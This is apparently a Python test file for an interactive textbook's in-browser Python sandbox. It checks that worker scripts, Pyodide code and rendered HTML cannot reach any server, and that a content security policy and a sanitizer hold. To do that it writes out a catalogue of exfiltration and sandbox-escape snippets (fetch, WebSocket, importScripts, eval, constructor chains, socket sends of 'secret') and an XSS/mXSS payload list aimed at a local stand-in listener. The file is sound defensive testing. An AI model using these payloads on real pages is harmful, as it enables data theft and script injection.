"""Nothing leaves a page: whatever runs in its Python reaches no server, nor its own.

Each way is first shown to lead out of an ordinary worker, where there is no policy.
"""

import base64
import hashlib
import json
import re
import socketserver
import threading
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

import pytest

from tests.book.test_writing import PAGE, RIGHT, SECONDS, Place
from tests.public import ROOT

STATIC = ROOT / "book" / "_theme" / "static"
# What a script in a worker can do to be heard elsewhere. OUT is an address.
WAYS = {
    "fetch": "fetch(OUT)",
    "fetch, posted": 'fetch(OUT, { method: "POST", mode: "no-cors", body: "secret" })',
    "keepalive": 'fetch(OUT, { keepalive: true, mode: "no-cors" })',
    "XMLHttpRequest": (
        "new Promise((done, failed) => { const asked = new XMLHttpRequest();"
        " asked.onload = done; asked.onerror = failed;"
        ' asked.open("GET", OUT); asked.send(); })'
    ),
    "XMLHttpRequest, at once": (
        '(() => { const asked = new XMLHttpRequest(); asked.open("GET", OUT, false);'
        " asked.send(); })()"
    ),
    "WebSocket": (
        "new Promise((done, failed) => {"
        ' const socket = new WebSocket(OUT.replace("http", "ws"));'
        " socket.onopen = done; socket.onerror = failed; })"
    ),
    "EventSource": (
        "new Promise((done, failed) => { const source = new EventSource(OUT);"
        " source.onopen = done; source.onerror = failed; })"
    ),
    "importScripts": "importScripts(OUT)",
    "import": "import(OUT)",
    "FontFace": 'new FontFace("f", `url(${OUT})`).load()',
    "cache": '(await caches.open("c")).add(OUT)',
    "worker that fetches": "nested(`fetch(${JSON.stringify(OUT)})`)",
    "worker that imports": "nested(`importScripts(${JSON.stringify(OUT)})`)",
    "eval": '(0, eval)(`fetch("${OUT}")`)',
    "Function": "new Function(`return fetch('${OUT}')`)()",
    "timer": (
        "new Promise((done) => { setTimeout(`fetch('${OUT}')`);"
        " setTimeout(done, 500); })"
    ),
}
ATTACK = """\
const nested = (code) => new Promise((done, failed) => {
  const end = ";postMessage(0)";
  const worker = new Worker(URL.createObjectURL(new Blob([code, end])));
  worker.onmessage = () => setTimeout(done, 300);
  worker.onerror = (event) => { event.preventDefault(); failed(event); };
});
const ways = { %s };
onmessage = async () => {
  for (const address of %s)
    for (const [name, way] of Object.entries(ways)) {
      const limit = new Promise((done) => setTimeout(done, 1500));
      try {
        const out = `${address}/${encodeURIComponent(name)}`;
        await Promise.race([way(out), limit]);
      } catch {}
    }
  postMessage({ kind: "broken", why: "all was tried" });
};
"""


def attack(*addresses: str) -> str:
    """Write a worker that tries every way to each address, and then says so."""
    ways = ",".join(f"{json.dumps(k)}: async (OUT) => {v}" for k, v in WAYS.items())
    return ATTACK % (ways, json.dumps(addresses))


@pytest.fixture
def elsewhere():
    """Listen at another origin: its address, and the first line of all that arrived."""
    lines = []

    class Listener(socketserver.StreamRequestHandler):
        def handle(self):
            lines.append(self.rfile.readline().decode())
            headers = "Access-Control-Allow-Origin: *\r\nContent-Type: text/javascript"
            said = f"HTTP/1.1 200 OK\r\n{headers}\r\nContent-Length: 0\r\n\r\n"
            self.wfile.write(said.encode())

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Listener) as server:
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}", lines
        server.shutdown()


@pytest.fixture
def book_host(gallery):
    """Serve the small book: the address, and every path that was asked for."""
    paths = []

    class Listener(SimpleHTTPRequestHandler):
        def log_message(self, *_):
            paths.append(self.path)

    listener = partial(Listener, directory=str(gallery))
    with ThreadingHTTPServer(("127.0.0.1", 0), listener) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}", paths
        server.shutdown()


@pytest.fixture(scope="module")
def address(gallery, site):
    return f"{site(gallery)}/{PAGE}"


def test_the_frames_policy_lets_its_own_script_run_and_no_other():
    page = (STATIC / "python.html").read_text()
    (script,) = re.findall("<script>(.*?)</script>", page, re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    (policy,) = re.findall('Security-Policy" content="(.*?)"', page)
    assert policy == (
        f"default-src 'none'; script-src 'sha256-{digest}' 'wasm-unsafe-eval'; "
        "worker-src blob:"
    )


@pytest.mark.browser
def test_each_way_leads_out_where_no_policy_is(site, visit, tmp_path, elsewhere):
    there, arrived = elsewhere
    (tmp_path / "index.html").write_text("<!DOCTYPE html><title>none</title>")
    (tmp_path / "attack.js").write_text(attack(there))
    page = visit(f"{site(tmp_path)}/index.html").page
    page.evaluate("""new Promise((done) => {
      const worker = new Worker("attack.js");
      worker.onmessage = done;
      worker.postMessage(0);
    })""")
    for name in WAYS:
        assert any(f"/{quote(name)} " in line for line in arrived), name


@pytest.mark.browser
def test_no_script_in_pythons_place_reaches_a_server(book_host, visit, elsewhere):
    """Not another's, and not the book's own, which could keep a log."""
    (there, arrived), (own, paths) = elsewhere, book_host
    seen = visit("about:blank")
    seen.page.context.route(
        "**/python-worker.js", lambda route: route.fulfill(body=attack(there, own))
    )
    seen.page.goto(f"{own}/{PAGE}")
    place = Place(seen.page).open()
    assert "could not be loaded (all was tried)" in place.check(RIGHT)
    assert arrived == []
    assert f"/{PAGE}" in paths
    assert not {f"/{quote(name)}" for name in WAYS} & set(paths)


# What a text can do that Python runs, in Python's own words.
TEXTS = {
    "js": "import js\njs.fetch(OUT)",
    "pyodide_js": "import pyodide_js\npyodide_js._module.eval('1')",
    "run_js": "from pyodide.code import run_js\nrun_js(f'fetch(\"{OUT}\")')",
    "open_url": "from pyodide.http import open_url\nopen_url(OUT)",
    "pyfetch": (
        "from pyodide.http import pyfetch\n"
        "try:\n    pyfetch(OUT).send(None)\nexcept StopIteration:\n    pass"
    ),
    "urllib": "import urllib.request\nurllib.request.urlopen(OUT)",
    "socket": (
        "import socket\nhost, port = OUT[7:].split(':')\n"
        "socket.create_connection((host, int(port)), 2).sendall(b'secret')"
    ),
    "constructor": (
        "import signal\nsignal.setitimer.constructor(f'fetch(\"{OUT}\")')()"
    ),
    "converted": (
        "from pyodide.ffi import to_js\n"
        "to_js([1]).constructor.constructor(f'return fetch(\"{OUT}\")')()"
    ),
    "modules": (
        "import sys\nfor module in list(sys.modules.values()):\n"
        "    for value in list(vars(module).values()):\n"
        "        if hasattr(value, 'XMLHttpRequest') or hasattr(value, 'fetch'):\n"
        "            value.fetch(OUT)\n"
        "raise ImportError('nothing was there')"
    ),
}


@pytest.mark.browser
@pytest.mark.slow
def test_no_text_of_a_reader_reaches_a_server(address, visit, elsewhere):
    there, arrived = elsewhere
    seen = visit(address)
    place = Place(seen.page).open()
    for name, text in TEXTS.items():
        said = place.check(f"OUT = {there!r}\n{text}\n")
        failed = ("Error", "has no ", "broke down")
        assert any(each in said for each in failed), (name, said)
    assert "clip: passed" in place.check(RIGHT)
    assert arrived == []
    assert seen.third_party == []


HTML = """\
class Report:
    def _repr_html_(self):
        return HTML

HTML = '''
<meta http-equiv="refresh" content="0; url=OUT/meta">
<base href="OUT/base"><link rel="stylesheet" href="OUT/link">
<img src="OUT/img"><svg><image href="OUT/svg"/><a href="OUT/svg-a">b</a></svg>
<iframe src="OUT/frame"></iframe><object data="OUT/object"></object>
<form action="OUT/form"><input autofocus onfocus="x()"><button>x</button></form>
<video src="OUT/video"></video><style>p { background: url(OUT/style) }</style>
<p style="background: url(OUT/attribute); color: red" onclick="x()">kept</p>
<p style="position: fixed; inset: 0" id="main">over</p>
<a href="OUT/a">away</a><a href="javascript:x()">script</a><a href="//elsewhere">no</a>
<a href="../book/errata.html#e-19">erratum</a><script>x()</script>
<math><mtext><table><mglyph><style><img src="OUT/nested"></style></table></math>
'''
Report()
"""


@pytest.mark.browser
def test_what_python_says_leads_nowhere(address, visit, elsewhere):
    there, arrived = elsewhere
    seen = visit(address)
    cell = seen.page.locator("[data-run]").first
    cell.locator("button").click()
    cell.locator(".said", has_text="The cell ran").wait_for(timeout=SECONDS)
    cell.locator(".cm-content").click()
    seen.page.keyboard.press("Control+A")
    seen.page.keyboard.insert_text(HTML.replace("OUT", there))
    cell.get_by_role("button", name="Run this cell").click()
    shown = seen.page.locator(".cell_output.ran .text_html").first
    shown.get_by_text("kept").wait_for(timeout=SECONDS)
    seen.page.wait_for_timeout(500)
    assert seen.page.url.startswith(address)
    assert seen.page.locator("#main").count() == 1
    kept = shown.evaluate(
        "shown => [...shown.querySelectorAll('*')].map((each) => [each.localName,"
        " ...each.getAttributeNames().map((name) => each.getAttribute(name))].join())"
    )
    assert set(kept) == {"div", "p", "a", "a,../book/errata.html#e-19"}
    assert arrived == []
    assert all("Content Security Policy" in error for error in seen.errors)


@pytest.mark.browser
def test_reports_tables_and_labels_pass_unchanged(address, visit, monkeypatch):
    from dpteach import dp_sgd
    from dpteach.chapters.grader import check
    from dpteach.figures.show import show
    from dpteach.labels import privacy_label
    from dpteach.privacy import Pure, Relation

    monkeypatch.setenv("DPTEACH_BOOK", "page")
    spent = Pure(1.0, relation=Relation.ADD_REMOVE)
    shown = [
        check("clip", lambda G, C: 0 * G / C, seed=0)._repr_html_(),
        check("clip", lambda G, C: C * G @ G, seed=0)._repr_html_(),
        show(dp_sgd)._repr_mimebundle_()["text/html"],
        privacy_label(spent, unit="one <b>patient</b>")._repr_html_(),
    ]
    page = visit(address).page
    Place(page).open()
    for html in shown:
        pair = page.evaluate(
            """(html) => {
              const [ours, theirs] = [0, 0].map(() => document.createElement("div"));
              ours.append(window.sanitized(html));
              theirs.innerHTML = html;
              return [ours.innerHTML, theirs.innerHTML];
            }""",
            html,
        )
        assert pair[0] == pair[1]


@pytest.mark.browser
@pytest.mark.parametrize(
    "message",
    [
        "null",
        "{}",
        "{ kind: '__proto__' }",
        "{ kind: 'run', passed: true, tried: 'clip', html: '' }",
        "{ kind: 'run', passed: 'yes', tried: 'clip', html: '', printed: '', line: 0,"
        " memory: 1 }",
    ],
)
def test_a_message_of_another_shape_is_no_answer(address, visit, message):
    seen = visit("about:blank")
    body = (
        "onmessage = ({ data }) =>"
        f" postMessage(data.kind === 'start' ? {{ kind: 'ready' }} : {message})"
    )
    seen.page.context.route(
        "**/python-worker.js", lambda route: route.fulfill(body=body)
    )
    seen.page.goto(address)
    place = Place(seen.page).open()
    assert "Python broke down" in place.check(RIGHT)
    assert seen.page.inner_text("#done") == "0 of 5 done"


@pytest.mark.browser
def test_no_other_window_is_heard_and_the_frame_serves_its_page_alone(address, visit):
    """A page of somebody's that opens the frame cannot run its script at our origin."""
    frame = address.removesuffix(PAGE) + "_static/python.html"
    page = visit(frame).page
    started = page.evaluate("""async () => {
      window.postMessage({ program: ["fetch('/ran')"] }, "*");
      await new Promise((done) => setTimeout(done, 500));
      return typeof worker !== "undefined";
    }""")
    assert not started
    page = visit(address).page
    place = Place(page).open()
    place.put("while True:\n    pass\n")
    place.here.locator(".go").click()
    answer = {"kind": "run", "passed": True, "tried": "clip", "html": "forged"}
    answer |= {"printed": "", "line": None, "memory": 1}
    page.evaluate("(answer) => window.postMessage(answer, '*')", answer)
    assert "forged" not in place.shown()
    assert page.inner_text("#done") == "0 of 5 done"
